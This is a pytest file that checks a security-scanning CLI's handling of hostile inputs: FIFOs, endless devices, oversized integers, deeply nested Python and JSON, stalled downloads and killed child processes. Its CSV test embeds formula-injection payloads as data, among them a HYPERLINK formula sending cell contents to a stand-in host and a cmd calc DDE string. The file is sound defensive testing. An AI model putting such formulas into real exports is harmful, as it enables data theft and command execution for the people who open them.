"""The hostile-input battery of issue 19, kept as tests: one per failure it found, each named
after the attack and run through the CLI as a new user would run it.

1. FIFOs, endless devices and links to them, handed to every command that reads a file.
2. A FIFO in a package tree for `code` and `scan --code`; an analysis stopped by its limits or
   SIGKILLed from outside leaves no temporary folder and no orphaned download client.
3. Integers of 4,301 digits (one past CPython's `int()` limit) in every YAML, TOML and JSON file
   the CLI reads, and during discovery one such file does not abort the run.
4. Deeply nested Python is UNANALYZABLE (not a MemoryError, exit 3), and `sweep` says so.
5. 9.7 MiB of `[]` is refused by counting its nodes before anything is built, on every reader.
6. CSV cells whose first non-blank character is a formula trigger are neutralised.

Nothing here asserts a duration: a deadline only turns a hang into a failure.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import require_tools
from toolwitness.cli import main
from toolwitness.errors import InputError

HANG_GUARD = 120.0  # seconds before a run that should end at once counts as a hang
CATALOG = {"tools": [{"name": "get_note", "description": "Read a note.", "inputSchema": {}}]}
DIGITS_4301 = "9" * 4301


def _main_with_deadline(argv: list[str], unblock: tuple[Path, ...] = ()) -> int:
    """`main(argv)` in a thread; a FIFO it blocks on is opened for writing afterwards so a failing
    run ends instead of leaving a thread behind."""
    box: list[int] = []
    worker = threading.Thread(target=lambda: box.append(main(argv)), daemon=True)
    worker.start()
    worker.join(HANG_GUARD)
    if not box:
        for fifo in unblock:
            try:
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass
        worker.join(10)
        pytest.fail(f"{argv} blocked on a hostile file")
    return box[0]


def _cli(args: list[str], tmp: Path, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "toolwitness", *args],
        capture_output=True, text=True, timeout=300, check=False,
        env={**os.environ, "TMPDIR": str(tmp), **env},
    )  # fmt: skip


def _left_behind(tmp: Path) -> list[str]:
    return sorted(p.name for p in tmp.iterdir() if p.name.startswith("toolwitness-"))


# -- 1. FIFOs and endless devices, to every command that reads a file ----------------------------

# {f} is the hostile file, {ok} a good catalog, {out} a path that does not exist yet.
READERS = {
    "fingerprint": ["fingerprint", "{f}"],
    "diff-new": ["diff", "{ok}", "{f}"],
    "diff-old": ["diff", "{f}", "{ok}"],
    "scan": ["scan", "{f}"],
    "scan-rules": ["scan", "{ok}", "--rules", "{f}"],
    "scan-suppressions": ["scan", "{ok}", "--suppressions", "{f}"],
    "scan-baseline": ["scan", "{ok}", "--baseline", "{f}"],
    "scan-lock": ["scan", "{ok}", "--lock", "{f}"],
    "lock": ["lock", "{f}", "-y", "-o", "{out}"],
    "trust-lock": ["trust", "--lock", "{f}", "{ok}"],
    "trust-audit": ["trust", "--lock", "{out}", "--audit", "{f}", "{ok}"],
    "report": ["report", "{f}"],
    "evaluate": ["evaluate", "{f}"],
    "compare-experiments": ["compare-experiments", "{f}", "{ok}"],
    "sweep-list": ["sweep", "{f}", "-o", "{out}"],
    "sweep-report": ["sweep-report", "{f}"],
    "code-surface": ["code", "{ok}", "--surface", "{f}"],
    "config": ["--config", "{f}", "scan", "{ok}"],
    "rules": ["rules", "--rules", "{f}"],
    "gateway-lock": ["gateway", "--lock", "{f}", "--", "true"],
}


def _hostile(tmp: Path, kind: str) -> Path:
    path = tmp / "hostile.json"  # named like what each command expects; the type decides
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to(kind)
    return path


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "/dev/urandom"])
@pytest.mark.parametrize("reader", sorted(READERS))
def test_fifo_or_endless_device_given_to_every_reader_exits_2_unread(
    tmp_path: Path, reader: str, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = _hostile(tmp_path, kind)
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps(CATALOG))
    fill = {"{f}": str(hostile), "{ok}": str(ok), "{out}": str(tmp_path / "new.out")}
    argv = [fill.get(word, word) for word in READERS[reader]]
    assert _main_with_deadline(argv, (hostile,) if kind == "fifo" else ()) == 2
    err = capsys.readouterr().err
    # Refused by its type before a byte was read: the message names what it is.
    assert ("FIFO" if kind == "fifo" else "character device") in err, err
    assert "Traceback" not in err


def test_fingerprint_on_a_fifo_named_json_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = _hostile(tmp_path, "fifo")
    assert _main_with_deadline(["fingerprint", str(fifo)], (fifo,)) == 2
    assert "not a regular file (a FIFO (named pipe))" in capsys.readouterr().err


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_fingerprint_and_diff_on_an_endless_device_exit_2(
    device: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps(CATALOG))
    assert _main_with_deadline(["fingerprint", device]) == 2
    assert _main_with_deadline(["diff", str(ok), device]) == 2
    assert "character device" in capsys.readouterr().err


def test_a_results_file_of_one_endless_line_is_read_bounded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`sweep-report` on a 2 GiB results file without a newline read the whole line (4 GiB of
    memory, 58 s) before checking its length; each read is now bounded by the line limit."""
    from toolwitness.sweep import results

    monkeypatch.setattr(results, "MAX_LINE_BYTES", 1024)
    reads: list[int] = []

    class CountingReader(io.BufferedReader):
        def readline(self, size: int | None = -1) -> bytes:
            data = super().readline(size)
            reads.append(len(data))
            return data

    def counting_open(self: Path, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        assert mode == "rb"
        return CountingReader(io.FileIO(self, "rb"))

    path = tmp_path / "results.jsonl"
    path.write_bytes(b"7" * (4 << 20))  # 4 MiB and no newline: 4096 times the line limit
    monkeypatch.setattr(Path, "open", counting_open)
    with pytest.raises(InputError, match="line over 1024 bytes"):
        results.read_records(path)
    assert reads == [1025]  # one bounded read, not the whole file
    monkeypatch.undo()
    # The command line: sparse, so the file costs no disk.
    with path.open("r+b") as handle:
        handle.truncate(results.MAX_LINE_BYTES * 2)
    assert main(["sweep-report", str(path)]) == 2
    assert "line over" in capsys.readouterr().err


# -- 2. `code` and `scan --code`: a FIFO in the tree, limits, a killed child ---------------------

SERVER_JS = """import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { helper } from "./evil.js";
const server = new McpServer({ name: "p", version: "1" });
server.tool("read_it", "Read the note", {}, async () => { helper(); return { content: [] }; });
"""


def _tree_with_fifos(root: Path) -> Path:
    (root / "src" / "lib").mkdir(parents=True)
    (root / "package.json").write_text(json.dumps({"name": "p", "version": "1.0.0"}))
    (root / "src" / "index.js").write_text(SERVER_JS)
    for name in ("src/evil.js", "src/blocked.ts", "src/lib/mod.py", "src/lib/package.json"):
        os.mkfifo(root / name)  # opening any of these for reading would block forever
    return root / "src" / "index.js"


def test_fifo_in_a_package_tree_code_and_scan_code_finish_unanalyzable(tmp_path: Path) -> None:
    entry = _tree_with_fifos(tmp_path / "pkg")
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"p": {"command": "node", "args": [str(entry)]}}}))
    for argv in (["code", str(tmp_path / "pkg")], ["scan", str(config), "--code"]):
        done = _cli([*argv, "-f", "json"], tmp_path)
        assert done.returncode == 0, done.stderr
        (server,) = json.loads(done.stdout)["servers"]
        (tool,) = server["tools"]
        # The FIFO it imports was never opened: the handler's path is not followed, and says why.
        assert tool["verdict"] == "UNANALYZABLE"
        assert "./evil.js" in tool["verdict_reason"]
        assert _left_behind(tmp_path) == []


class SilentRegistry:
    """A registry that accepts connections and never answers: a download that cannot end."""

    def __init__(self) -> None:
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))  # an ephemeral port
        self.listener.listen(16)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/"
        self.held: list[socket.socket] = []  # connections kept open, never answered
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                self.held.append(self.listener.accept()[0])
            except OSError:
                return

    def close(self) -> None:
        self.listener.close()
        for conn in self.held:
            conn.close()


@pytest.fixture
def silent_registry() -> Iterator[SilentRegistry]:
    registry = SilentRegistry()
    try:
        yield registry
    finally:
        registry.close()


def _stalled_download(tmp: Path, kind: str) -> list[str]:
    """`code` or `scan --code` of a pinned npm package (its download never ends)."""
    if kind == "code":
        return ["code", "npm:left-pad@1.3.0", "-f", "json"]
    config = tmp / "mcp.json"
    entry = {"command": "npx", "args": ["-y", "left-pad@1.3.0"]}
    config.write_text(json.dumps({"mcpServers": {"pad": entry}}))
    return ["scan", str(config), "--code", "-f", "json"]


def _children(pid: int) -> list[int]:
    try:
        text = Path(f"/proc/{pid}/task/{pid}/children").read_text()
    except OSError:
        return []
    return [int(p) for p in text.split()]


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")  # a zombie has ended; only its parent has not reaped it


def _wait_until(test: Any, what: str) -> None:
    import time

    deadline = time.monotonic() + HANG_GUARD
    while not test():
        if time.monotonic() > deadline:
            pytest.fail(f"never happened: {what}")
        time.sleep(0.05)


@pytest.mark.parametrize("kind", ["code", "scan-code"])
def test_wall_limit_on_a_download_that_never_ends_names_the_limit(
    tmp_path: Path, kind: str, silent_registry: SilentRegistry
) -> None:
    require_tools("npm")
    argv = [*_stalled_download(tmp_path, kind), "--max-seconds", "3"]
    done = _cli(argv, tmp_path, npm_config_registry=silent_registry.url)
    assert done.returncode == 3, done.stderr
    (server,) = json.loads(done.stdout)["servers"]
    assert server["incomplete"] is True and server["grade"] is None
    assert any("over the wall-time limit of 3 s" in e for e in server["errors"])
    assert _left_behind(tmp_path) == []  # npm's work folder too


@pytest.mark.parametrize("kind", ["code", "scan-code"])
def test_sigkill_of_the_analysis_child_leaves_no_temp_folder_nor_npm(
    tmp_path: Path, kind: str, silent_registry: SilentRegistry
) -> None:
    require_tools("npm")
    argv = [sys.executable, "-m", "toolwitness", *_stalled_download(tmp_path, kind)]
    env = {**os.environ, "TMPDIR": str(tmp_path), "npm_config_registry": silent_registry.url}
    proc = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        # The analysis child, then the npm client it runs (behind its parent-death launcher).
        _wait_until(lambda: len(_children(proc.pid)) == 1, "the analysis child started")
        (child,) = _children(proc.pid)
        _wait_until(lambda: _children(child), "the download client started")
        clients = _children(child)
        # Killed while the client waits on the registry, its start-up output long written.
        _wait_until(lambda: silent_registry.held, "the client connected to the registry")
        assert _left_behind(tmp_path), "the run's temporary folder exists while it works"
        os.kill(child, signal.SIGKILL)  # as the OOM killer would
        out, err = proc.communicate(timeout=HANG_GUARD)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 3, err
    (server,) = json.loads(out)["servers"]
    assert any("killed" in e for e in server["errors"]), server["errors"]
    assert _left_behind(tmp_path) == []
    _wait_until(lambda: not any(map(_alive, clients)), "the orphaned download client ended")


def test_scan_code_limits_are_checked_as_usage(tmp_path: Path) -> None:
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"p": {"command": "node", "args": ["x.js"]}}}))
    done = _cli(["scan", str(config), "--code", "--max-memory-mib", "1"], tmp_path)
    assert done.returncode == 2 and "--max-memory-mib" in done.stderr


# -- 3. integers of 4,301 digits in every file the CLI parses ----------------------------------

# (file name, its text, the command line with {f} for it, what the one-line error must say)
BIG_INTEGERS = {
    "yaml-client-config": (
        "mcp.yaml", f"mcpServers:\n  a:\n    command: npx\n    timeout: {DIGITS_4301}\n",
        ["scan", "{f}"], "key 'timeout': integer of 4301 characters",
    ),
    "toml-client-config": (
        "config.toml", f"[mcp_servers.a]\ncommand = 'npx'\nstartup_timeout_sec = {DIGITS_4301}\n",
        ["scan", "{f}"], "key 'startup_timeout_sec'",
    ),
    "toolwitness-toml": (
        ".toolwitness.toml", f"max-tools = {DIGITS_4301}\n",
        ["--config", "{f}", "scan", "{ok}"], "key 'max-tools'",
    ),
    "pyproject-table": (
        "pyproject.toml", f"[tool.toolwitness]\nmax-tools = {DIGITS_4301}\n",
        ["--config", "{f}", "scan", "{ok}"], "key 'max-tools'",
    ),
    "suppressions": (
        "supp.yaml", f"suppressions:\n  - rule: TW-INJ-001\n    n: {DIGITS_4301}\n",
        ["scan", "{ok}", "--suppressions", "{f}"], "integer of 4301 characters",
    ),
    "rule-pack": (
        "pack.yaml", f"rules:\n  - id: TW-X-001\n    weight: {DIGITS_4301}\n",
        ["rules", "--rules", "{f}"], "integer of 4301 characters",
    ),
    "catalog": (
        "tools.json", '{"tools": [{"name": "a", "inputSchema": {"maximum": ' + DIGITS_4301 + "}}]}",
        ["scan", "{f}"], "outside ±(2^53-1)",
    ),
    "lockfile": (
        "toolwitness.lock", '{"schema": "toolwitness.lock/1", "n": ' + DIGITS_4301 + "}",
        ["scan", "{ok}", "--lock", "{f}"], "outside ±(2^53-1)",
    ),
    "baseline": (
        "baseline.json", '{"n": ' + DIGITS_4301 + "}",
        ["scan", "{ok}", "--baseline", "{f}"], "outside ±(2^53-1)",
    ),
    "jsonc-client-config": (
        "settings.jsonc", '{"mcpServers": {"a": {"command": "npx", "n": ' + DIGITS_4301 + "}}}",
        ["scan", "{f}"], "outside ±(2^53-1)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(BIG_INTEGERS))
def test_4301_digit_integer_exits_2_naming_file_and_key(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name, text, template, message = BIG_INTEGERS[case]
    path = tmp_path / name
    path.write_text(text)
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps(CATALOG))
    argv = [{"{f}": str(path), "{ok}": str(ok)}.get(word, word) for word in template]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert message in err and name in err, err
    assert "Traceback" not in err and "Exceeds the limit" not in err
    assert len(err.strip().splitlines()) == 1


def test_4301_digit_integer_in_one_discovered_config_does_not_abort_discovery(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    for folder in (".codex", ".continue", ".cursor"):
        (home / folder).mkdir(parents=True)
    (home / ".codex" / "config.toml").write_text(BIG_INTEGERS["toml-client-config"][1])
    (home / ".continue" / "config.yaml").write_text(
        f"mcpServers:\n  - name: c\n    command: npx\n    timeout: {DIGITS_4301}\n"
    )
    good = {"mcpServers": {"kept": {"command": "npx", "args": ["-y", "pkg@1.0.0"]}}}
    (home / ".cursor" / "mcp.json").write_text(json.dumps(good))
    code = main(["scan", "--discover", "--home", str(home), "--no-project", "-f", "json"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    servers = {s["id"]: s for s in json.loads(captured.out)["servers"]}
    assert "kept" in servers  # the run went on past the two unreadable files
    unread = [
        f["message"] for s in servers.values() for f in s["findings"] if f["rule_id"] == "TW-NET-008"
    ]
    assert len(unread) == 2, unread
    assert any("startup_timeout_sec" in m for m in unread)
    assert any("integer of 4301 characters" in m for m in unread)


# -- 4. deeply nested Python -------------------------------------------------------------------

DEEP_PYTHON = {
    "not-not-x100000": "x = " + "not " * 100_000 + "p\n",
    "elif-x100000": "if a == 0:\n    pass\n"
    + "".join(f"elif a == {i}:\n    pass\n" for i in range(1, 100_000)),
    "lambda-x20000": "f = " + "lambda: " * 20_000 + "0\n",
}
DEEP_SERVER = (
    "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('s')\nimport deep\n"
    "@mcp.tool()\ndef show() -> str:\n    '''Show it.'''\n    return deep.f()\n"
)


def _deep_tree(root: Path, case: str) -> Path:
    root.mkdir(parents=True)
    (root / "server.py").write_text(DEEP_SERVER)
    (root / "deep.py").write_text(DEEP_PYTHON[case])
    (root / "pyproject.toml").write_text('[project]\nname = "deep"\nversion = "1"\n')
    return root


@pytest.mark.parametrize("case", sorted(DEEP_PYTHON))
def test_deeply_nested_python_is_unanalyzable_not_a_memory_error(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    tree = _deep_tree(tmp_path / "tree", case)
    code = main(["code", str(tree), "-f", "json"])
    captured = capsys.readouterr()
    assert code != 3 and "MemoryError:" not in captured.err, captured.err
    (server,) = json.loads(captured.out)["servers"]
    assert server["errors"] == []  # not a limit hit: the file is a gap the verdict names
    (tool,) = server["tools"]
    assert tool["verdict"] == "UNANALYZABLE"
    assert any("deep.py" in f["message"] for f in server["findings"])


def test_sweep_labels_deeply_nested_python_as_analysed_and_unanalyzable(tmp_path: Path) -> None:
    listing = tmp_path / "list.txt"
    listing.write_text("".join(f"{_deep_tree(tmp_path / c, c)}\n" for c in sorted(DEEP_PYTHON)))
    results = tmp_path / "results.jsonl"
    done = _cli(["sweep", str(listing), "-o", str(results), "--workers", "1"], tmp_path)
    assert done.returncode == 0, done.stderr
    records = [json.loads(line) for line in results.read_text().splitlines()]
    assert len(records) == len(DEEP_PYTHON)
    for record in records:
        # Not MEMORY_LIMIT: the parser's give-up is a module the analysis could not read.
        assert record["outcome"] == "ANALYSED", record
        assert [t["verdict"] for t in record["server"]["tools"]] == ["UNANALYZABLE"]
        assert any("deep.py" in note for note in record["notes"])


# -- 5. 9.7 MiB of `[]` --------------------------------------------------------------------------

BRACKETS_TEMPLATES = {
    "scan": ["scan", "{f}"],
    "scan-jsonc": ["scan", "{jsonc}"],
    "fingerprint": ["fingerprint", "{f}"],
    "diff": ["diff", "{ok}", "{f}"],
    "lock": ["lock", "{f}", "-y", "-o", "{out}"],
    "scan-lock": ["scan", "{ok}", "--lock", "{f}"],
    "scan-baseline": ["scan", "{ok}", "--baseline", "{f}"],
    "trust-lock": ["trust", "--lock", "{f}", "{ok}"],  # a 64 MiB size bound
    "report": ["report", "{f}"],  # a 64 MiB size bound
    "code-surface": ["code", "{ok}", "--surface", "{f}"],
    "compare-experiments": ["compare-experiments", "{f}", "{f}"],
    "sweep-list": ["sweep", "{f}", "-o", "{out}"],
}


@pytest.fixture(scope="module")
def brackets(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, int]:
    folder = tmp_path_factory.mktemp("brackets")
    count = (int(9.7 * 1024 * 1024) - 2) // 3
    text = "[" + ",".join(["[]"] * count) + "]"
    (folder / "brackets.json").write_text(text)
    (folder / "brackets.jsonc").write_text(text)
    return folder / "brackets.json", folder / "brackets.jsonc", count + 1


@pytest.mark.parametrize("reader", sorted(BRACKETS_TEMPLATES))
def test_9_7_mib_of_empty_lists_is_refused_by_node_count_before_building(
    tmp_path: Path,
    reader: str,
    brackets: tuple[Path, Path, int],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from toolwitness.acquire import hostile_json

    path, jsonc, nodes = brackets
    built: list[int] = []  # the length of every text the JSON decoder was given
    decode = json.loads

    def counting(text: str, **kw: Any) -> Any:
        built.append(len(text))
        return decode(text, **kw)

    monkeypatch.setattr(hostile_json.json, "loads", counting)
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps(CATALOG))
    fill = {"{f}": str(path), "{jsonc}": str(jsonc), "{ok}": str(ok), "{out}": str(tmp_path / "o")}
    assert main([fill.get(w, w) for w in BRACKETS_TEMPLATES[reader]]) == 2
    err = capsys.readouterr().err
    found = re.search(r"more JSON values and keys than the node budget of (\d+)", err)
    assert found is not None, err
    assert nodes > int(found.group(1))  # refused by its count: the budget it states is exceeded
    assert max(built, default=0) < 1024 * 1024  # the 9.7 MiB text never reached the decoder


def test_an_audit_log_of_tiny_records_has_one_node_budget_for_the_whole_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each line of `trust --audit` was within its own budget, so 64 MiB of `{"event":"a"}`
    lines built 4.5 million dicts (1.5 GB, 173 s). The log now has one budget, as one document
    of its size would: refused before a single record is built."""
    from toolwitness.acquire import hostile_json

    decoded: list[int] = []
    decode = json.loads

    def counting(text: str, **kw: Any) -> Any:
        decoded.append(len(text))
        return decode(text, **kw)

    log = tmp_path / "audit.jsonl"
    log.write_bytes(b'{"event":"a"}\n' * ((1 << 20) // 14))  # 1 MiB, 3 nodes a line
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps(CATALOG))
    monkeypatch.setattr(hostile_json.json, "loads", counting)
    argv = ["trust", "--lock", str(tmp_path / "none.lock"), "--audit", str(log), str(ok)]
    assert main([*argv, "--max-file-mib", "1"]) == 2
    assert "more JSON values and keys than the node budget" in capsys.readouterr().err
    assert len(decoded) < 10  # the catalog, the lockfile: no audit record was decoded
    blank = tmp_path / "blank.jsonl"
    blank.write_bytes(b"\n" * (1 << 20) + b'{"event":"a"}\n')  # a flood of blank lines
    decoded.clear()
    assert main(["trust", "--lock", str(tmp_path / "none.lock"), "--audit", str(blank), str(ok)]) == 0
    assert decoded.count(len('{"event":"a"}')) == 1  # the one record, found past the flood


# -- 6. CSV formula triggers behind leading blanks -----------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_csv_cells_with_a_formula_behind_a_space_or_nbsp_are_neutralised(tmp_path: Path) -> None:
    names = [
        ' =HYPERLINK("https://x.test/?q="&A1,"open")',
        '\u00a0=HYPERLINK("https://x.test")',
        "\u2003+cmd|' /C calc'!A0",
        "  \t-2+3",
        "\u3000@SUM(1+1)",
        "\uff1dSUM(A1)",
    ]
    tools = [{"name": n, "description": f" ={n}", "inputSchema": {}} for n in names]
    catalog = tmp_path / "tools.json"
    catalog.write_text(json.dumps({"serverInfo": {"name": " =1+1"}, "tools": tools}))
    out = tmp_path / "report.csv"
    assert main(["scan", str(catalog), "-o", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) > len(names)  # every tool has findings (no description, odd names)
    cells = [cell for row in rows[1:] for cell in row]
    risky = [c for c in cells if c.removeprefix("'").lstrip().startswith(TRIGGERS)]
    assert risky, "the attack reached no cell: the test would prove nothing"
    assert all(cell.startswith("'") for cell in risky), [c for c in risky if c[:1] != "'"]
    for row in rows[1:]:  # a blank a spreadsheet skips is never left raw before a trigger
        assert not any(cell[:1] in ("\u00a0", "\u2003", "\u3000") for cell in row)
